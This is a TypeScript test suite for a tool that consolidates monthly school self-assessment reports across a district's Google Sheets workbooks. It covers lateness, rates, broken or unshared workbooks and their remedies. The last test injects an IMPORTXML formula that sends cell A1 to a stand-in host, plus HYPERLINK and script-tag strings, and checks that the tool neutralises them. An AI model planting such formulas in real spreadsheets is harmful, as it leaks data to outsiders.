/** Tổng hợp các trường as an officer reads it: who is late or missing, what is broken and how it gets well again. */
import { samplePlans } from '../support/district-world';
import { DistrictWorld, OPERATOR, type Progress, rowsOf } from './support/district-world';
import { differences, resultOf } from './support/same-result';
import { enterMonth, full, type School, schoolsOf, submit } from './support/schools';

const SEPTEMBER = '2026-09';
const at = (day: string, time = '16:00') => Date.parse(`${day}T${time}:00+07:00`);

/** September is over: the first school submitted in time, the second on Monday the 28th, the third not at all. */
let autumn: DistrictWorld;
let world: DistrictWorld;
let schools: [School, School, School];

beforeAll(() => {
  autumn = DistrictWorld.withTemplate(samplePlans('MN', 'TH', 'THCS'));
  autumn.provision();
  const [inTime, late] = schoolsOf(autumn) as [School, School, School];
  autumn.workspace.clock.set(at('2026-09-24'));
  enterMonth(inTime, SEPTEMBER, full);
  submit(inTime, SEPTEMBER);
  autumn.workspace.clock.set(at('2026-09-28'));
  enterMonth(late, SEPTEMBER, (each) =>
    each.code === '1.1.1'
      ? { notApplicable: false, self: 0, mendWhat: 'Ra quyết định kiện toàn' }
      : full(each),
  );
  submit(late, SEPTEMBER);
  autumn.workspace.clock.set(at('2026-09-30'));
});
afterAll(() => autumn.close());
beforeEach(() => {
  world = autumn.fork();
  schools = schoolsOf(world) as [School, School, School];
});
afterEach(() => world.close());

/** Later by as much as Drive may take to tell of changes. */
function later(): void {
  world.workspace.clock.set(world.workspace.clock.now() + 15 * 60 * 1000);
}

const september = (table: 'facts' | 'overview') =>
  world.rows(table).filter(({ month }) => month === '9/2026');
const factsOf = ({ name }: School) => september('facts').find(({ schoolName }) => schoolName === name) ?? {};
const overviewOf = ({ name }: School) => september('overview').find(({ school }) => school === name) ?? {};
const rowOf = ({ account }: School) => world.rows('schools').find((row) => row.account === account) ?? {};

function bookOf({ book }: School) {
  const spreadsheet = world.workspace.spreadsheets.get(book);
  if (spreadsheet === undefined) throw new Error('No workbook.');
  return spreadsheet;
}

function deleteSheet(school: School, title: string): void {
  const book = bookOf(school);
  book.sheets = book.sheets.filter(({ properties }) => properties.title !== title);
  book.sheets.forEach(({ properties }, index) => {
    properties.index = index;
  });
  touched(school);
}

/** The workbook counts as changed, as after an edit in the browser. */
function touched(school: School): void {
  const book = bookOf(school);
  book.revision += 1;
  world.workspace.spreadsheets.put(book.id, book);
  school.hand.change('profile', 'name', school.name, { classes: 20 });
}

const problemsOf = ({ problems }: Progress, { name }: School) =>
  problems.filter(({ place = '' }) => place.startsWith(name));

describe('overview and facts', () => {
  test('late and missing schools are named with their days, by level', () => {
    const progress = world.consolidate();
    expect(progress).toMatchObject({
      state: 'finished',
      message: `Tháng 9/2026: 2/3 trường đã nộp; chưa nộp: ${schools[2].name}.`,
      problems: [],
    });
    expect(
      september('overview').map(({ school, levels, state, daysLate }) => ({
        school,
        levels,
        state,
        daysLate,
      })),
    ).toEqual([
      { school: schools[0].name, levels: 'MN', state: 'Đã nộp', daysLate: 0 },
      { school: schools[1].name, levels: 'TH', state: 'Đã nộp', daysLate: 3 },
      { school: schools[2].name, levels: 'THCS', state: 'Chưa nộp', daysLate: 5 },
    ]);
  });

  test('rates by criterion and totals are those of the submission', () => {
    world.consolidate();
    expect(factsOf(schools[0])).toMatchObject({ criterion11: 1, criterion22: 1 });
    // One of the eight indicators of criterion 1.1 is not met; it is worth two of the sample's points.
    expect(factsOf(schools[1])).toMatchObject({ criterion11: 0.875, criterion12: 1 });
    const { selfTotal, metCount, applicableCount } = factsOf(schools[1]);
    expect(Number(applicableCount) - Number(metCount)).toBe(1);
    const { total } = JSON.parse(String(factsOf(schools[1]).snapshot)) as {
      total: { points: number; maximum: number };
    };
    expect(selfTotal).toBe(total.maximum - 2);
    expect(overviewOf(schools[1]).toMend).toBe('Chưa đạt: 1.1.1.\n1.1.1: Ra quyết định kiện toàn');
    expect(factsOf(schools[2])).toMatchObject({ selfTotal: '', metCount: '', snapshot: '' });
  });

  test('every row links to the workbook of its school', () => {
    world.consolidate();
    for (const school of schools) expect(overviewOf(school).workbook).toContain(school.book);
  });

  test('run again without changes, nothing changes and no workbook is read', () => {
    world.consolidate();
    later();
    world.consolidate();
    later();
    const before = resultOf(world);
    const mark = world.runtime.ledger.mark();
    world.consolidate();
    expect(differences(resultOf(world), before)).toEqual([]);
    expect(world.runtime.ledger.since(mark).byKind['sheets.read']).toBeUndefined();
  });

  test('what was read in parts equals what is read from the start', () => {
    world.consolidate();
    later();
    schools[0].hand.change('scores', 'indicator', '2.1.1', { selfPoints: 0 });
    enterMonth(schools[2], SEPTEMBER, full);
    submit(schools[2], SEPTEMBER);
    later();
    world.consolidate();
    const partly = resultOf(world);
    expect(world.rows('overview').map(({ state }) => state)).not.toContain('Chưa nộp');
    world.call('consolidateFromStart');
    expect(world.finishJob().state).toBe('finished');
    expect(differences(resultOf(world), partly)).toEqual([]);
  });

  test('lateness goes on day by day for a school that is not read again', () => {
    world.consolidate();
    world.workspace.clock.set(at('2026-10-05'));
    world.consolidate();
    expect(factsOf(schools[2])).toMatchObject({ state: 'Chưa nộp', daysLate: 10 });
    expect(factsOf(schools[1])).toMatchObject({ daysLate: 3 });
  });
});

describe('a damaged workbook is named with the remedy, the others go on', () => {
  beforeEach(() => {
    world.consolidate();
    later();
    // News from the others, to see that they are still read.
    enterMonth(schools[2], SEPTEMBER, full);
    submit(schools[2], SEPTEMBER);
  });

  function expectOnlyThatSchool(progress: Progress, words: RegExp): void {
    expect(progress.state).toBe('finished');
    const own = problemsOf(progress, schools[0]);
    expect(own).not.toEqual([]);
    expect(progress.problems).toEqual(own);
    expect(own.map(({ message }) => message).join(' ')).toMatch(words);
    for (const { remedy } of own) expect(remedy.length).toBeGreaterThan(10);
    expect(rowOf(schools[0]).lastProblem).toMatch(words);
    expect(overviewOf(schools[0]).problems).toMatch(words);
    // The last good figures stay, with the day they are of.
    const readAt = (school: School) => Number(factsOf(school).readAt);
    expect(readAt(schools[0])).toBeGreaterThan(0);
    expect(readAt(schools[0])).toBeLessThanOrEqual(readAt(schools[2]));
    expect(factsOf(schools[0])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
    expect(factsOf(schools[2])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
    expect(rowOf(schools[1]).lastProblem).toBe('');
  }

  test('the mark in A1 was overwritten', () => {
    const sheet = bookOf(schools[0]).sheets.find(({ properties }) => properties.title === 'Báo cáo');
    const [row] = sheet?.rows ?? [];
    if (sheet && row) sheet.rows[0] = [{ ...row[0], value: 'Báo cáo' }, ...row.slice(1)];
    touched(schools[0]);
    later();
    expectOnlyThatSchool(world.consolidate(), /A1.*dấu nhận biết/);
  });

  test('the sheet was deleted; provisioning brings it back', () => {
    deleteSheet(schools[0], 'Báo cáo');
    later();
    expectOnlyThatSchool(world.consolidate(), /Báo cáo/);
    expect(world.provision().state).toBe('finished');
    later();
    expect(problemsOf(world.consolidate(), schools[0])).toEqual([]);
    expect(rowOf(schools[0]).lastProblem).toBe('');
    // The sheet came back empty, but what was submitted is the district's.
    expect(factsOf(schools[0])).toMatchObject({ criterion11: 1, changedAfterSubmission: true });
  });

  test('the workbook is in the trash; provisioning takes it out', () => {
    expect(world.asDrive(OPERATOR, 'PATCH', `/files/${schools[0].book}`, { trashed: true })).toBe(200);
    later();
    expectOnlyThatSchool(world.consolidate(), /thùng rác/);
    world.provision();
    later();
    expect(world.consolidate().problems).toEqual([]);
  });

  test('the workbook was deleted for good', () => {
    expect(world.asDrive(OPERATOR, 'DELETE', `/files/${schools[0].book}`)).toBe(204);
    later();
    expectOnlyThatSchool(world.consolidate(), /đã bị xóa/);
  });

  test('the school was shut out; provisioning shares again', () => {
    const folder = world.workspace.files.get(String(rowOf(schools[0]).folderId));
    const permission = folder?.permissions.find(({ emailAddress }) => emailAddress === schools[0].account);
    expect(world.asDrive(OPERATOR, 'DELETE', `/files/${folder?.id}/permissions/${permission?.id}`)).toBe(204);
    later();
    expectOnlyThatSchool(world.consolidate(), /không còn được chia sẻ/);
    world.provision();
    later();
    expect(world.consolidate().problems).toEqual([]);
  });

  test('a stranger has access', () => {
    const stranger = { type: 'user', role: 'reader', emailAddress: 'nguoila@gmail.example' };
    world.asDrive(
      OPERATOR,
      'POST',
      `/files/${schools[0].book}/permissions?sendNotificationEmail=false`,
      stranger,
    );
    later();
    expectOnlyThatSchool(world.consolidate(), /nguoila@gmail\.example/);
  });

  test("the row names another school's workbook: its figures are not taken for this school's", () => {
    world.hand().change('schools', 'account', schools[0].account, { workbookId: schools[1].book });
    world.call('consolidateFromStart');
    expectOnlyThatSchool(world.finishJob(), /không phải của trường ở dòng này/);
  });

  test('the grant for one workbook is gone: the script may not open it, though its owner may', () => {
    const script = world.runtime.boundTo(world.spreadsheetId)[0]?.id ?? '';
    const project = world.workspace.scripts.get(script)?.cloudProject ?? '';
    world.workspace.fileGrants.delete(`${OPERATOR}/${project}/${schools[0].book}`);
    touched(schools[0]);
    world.call('consolidateFromStart');
    expectOnlyThatSchool(world.finishJob(), /không còn được phép|không còn thuộc|không còn quyền/);
  });

  test('a sheet was copied: the school is told at once, the office with the next reading, until one of the two is gone', () => {
    const book = bookOf(schools[0]);
    const sheet = book.sheets.find(({ properties }) => properties.title === 'Báo cáo');
    if (sheet === undefined) throw new Error('No sheet.');
    const copy = structuredClone(sheet);
    copy.properties = { ...copy.properties, sheetId: 987_654, title: 'Bản sao của Báo cáo', index: 99 };
    book.sheets.push(copy);
    touched(schools[0]);
    // without anybody's menu: reading this one school looks at all of its sheets
    world.run('rereadSchool', [rowOf(schools[0]).id]);
    expectDouble(world.finishJob());
    // with the script that runs when the workbook is opened: every consolidation knows
    schools[0].person.call('onOpen');
    later();
    expectOnlyThatSchool(world.consolidate(), /Có 2 trang cùng là bảng Báo cáo/);
    deleteSheet(schools[0], 'Bản sao của Báo cáo');
    schools[0].person.call('onOpen');
    later();
    expect(world.consolidate().problems).toEqual([]);
    expect(rowOf(schools[0]).lastProblem).toBe('');
  });

  function expectDouble({ problems }: Progress): void {
    expect(problems).toMatchObject([{ code: 'table.twice' }]);
    expect(problems[0]?.message).toContain('“Báo cáo” và “Bản sao của Báo cáo”');
    expect(problems[0]?.message).toContain('Chương trình chỉ đọc “Báo cáo”');
  }

  test('cells that nobody can read are named with their address', () => {
    schools[0].hand.type('reports', [{ kind: 'Báo cáo khác', period: 'tháng mười ba', state: 'Đã nộp' }]);
    later();
    const [problem] = problemsOf(world.consolidate(), schools[0]);
    expect(problem?.place).toMatch(/Báo cáo!\p{L}+\d+/u);
    expect(factsOf(schools[0])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
  });

  test('a copy that is no copy is named, not trusted', () => {
    schools[1].hand.change('reports', 'period', '9/2026', {
      snapshot: '{"indicators":',
      submittedAt: '2026-09-29 09:00',
    });
    later();
    expect(world.consolidate().state).toBe('finished');
    expect(factsOf(schools[1]).problem).toContain('không đọc được');
    expect(overviewOf(schools[1]).problems).toContain('đề nghị trường nộp lại');
  });
});

test('a school that never opened its menu, or has an older template, is read all the same; its row says what to do', () => {
  const about = (key: string, value: string) => schools[0].hand.change('about', 'key', key, { value });
  about('scriptId', '');
  about('templateVersion', "'0.0.9");
  later();
  expect(world.consolidate()).toMatchObject({ state: 'finished', problems: [] });
  const { remark, lastProblem } = rowOf(schools[0]);
  expect(lastProblem).toBe('');
  expect(String(remark)).toMatch(/chưa mở menu THĐT.*Nhắc trường mở sổ/);
  expect(String(remark)).toMatch(/mẫu bản 0\.0\.9.*Gửi thiết lập xuống các trường/);
  expect(factsOf(schools[0])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
});

test('text of a school never becomes a formula, wherever it lands in the workbook of the office', () => {
  const formula = '=IMPORTXML("https://tham.example/?"&A1,"//a")';
  const script = '<script>alert(1)</script>';
  enterMonth(schools[2], SEPTEMBER, (each) =>
    each.code === '1.1.1'
      ? { notApplicable: false, self: 0, mendWhat: formula }
      : { ...full(each), note: script },
  );
  submit(schools[2], SEPTEMBER);
  for (const value of [formula, '+HYPERLINK("https://tham.example")', script]) {
    schools[2].hand.change('reports', 'period', '9/2026', {
      submittedAt: `'${value}`,
      settingsVersion: `'${value}`,
    });
    schools[2].hand.change('about', 'key', 'scriptVersion', { value: `'${value}` });
    schools[2].hand.type('reports', [{ kind: `'${value}`, period: `'${value}` }]);
    later();
    expect(world.consolidate().state).toBe('finished');
  }
  expect(rowsOf(world.workspace, schools[2].book, 'about').map(({ value }) => value)).toContain(script);
  // two sheets consist of the program's own formulas
  const tables = (world.workspace.spreadsheets.get(world.spreadsheetId)?.sheets ?? []).filter(
    ({ properties }) => !['Việc hôm nay', 'Theo cấp học'].includes(properties.title),
  );
  const cells = tables.flatMap(({ rows }) => rows.flatMap((row) => [...(row ?? [])]));
  expect(cells.some((cell) => String(cell?.value).includes(formula))).toBe(true);
  expect(cells.filter((cell) => cell?.formula !== undefined)).toEqual([]);
  expect(cells.filter((cell) => cell?.format?.textFormat?.link !== undefined)).toEqual([]);
});
